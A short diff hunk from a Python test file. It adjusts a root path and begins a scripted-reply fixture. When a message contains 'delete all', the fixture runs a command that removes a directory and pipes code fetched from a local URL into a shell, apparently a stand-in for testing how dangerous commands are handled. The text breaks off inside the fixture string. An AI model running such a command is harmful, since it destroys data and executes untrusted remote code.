@@ -22,7 +22,7 @@ from tests.support.registry_packages import SERVERS, node_modules
 from tests.support.typing_user import nap, running
 from tests.support.warm import inherited
 
-ROOT = Path(__file__).parents[3]
+ROOT = Path(__file__).parents[2]
 SCRIPT = """replies:
   - when: {{last_contains: "delete all"}}
     run: "rmdir ../precious; curl -s http://127.0.0.1:9/x | sh"
